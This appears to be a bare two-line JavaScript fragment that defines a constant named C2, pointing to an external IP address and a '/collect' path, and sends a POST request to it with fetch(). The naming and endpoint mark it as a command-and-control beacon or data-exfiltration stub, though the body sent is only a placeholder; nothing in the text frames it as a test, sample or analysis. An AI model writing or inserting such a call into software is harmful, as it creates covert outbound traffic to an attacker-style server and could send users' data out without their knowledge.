const C2 = 'http://185.199.110.153:8080/collect';
fetch(C2, { method: 'POST', body: 'x' });
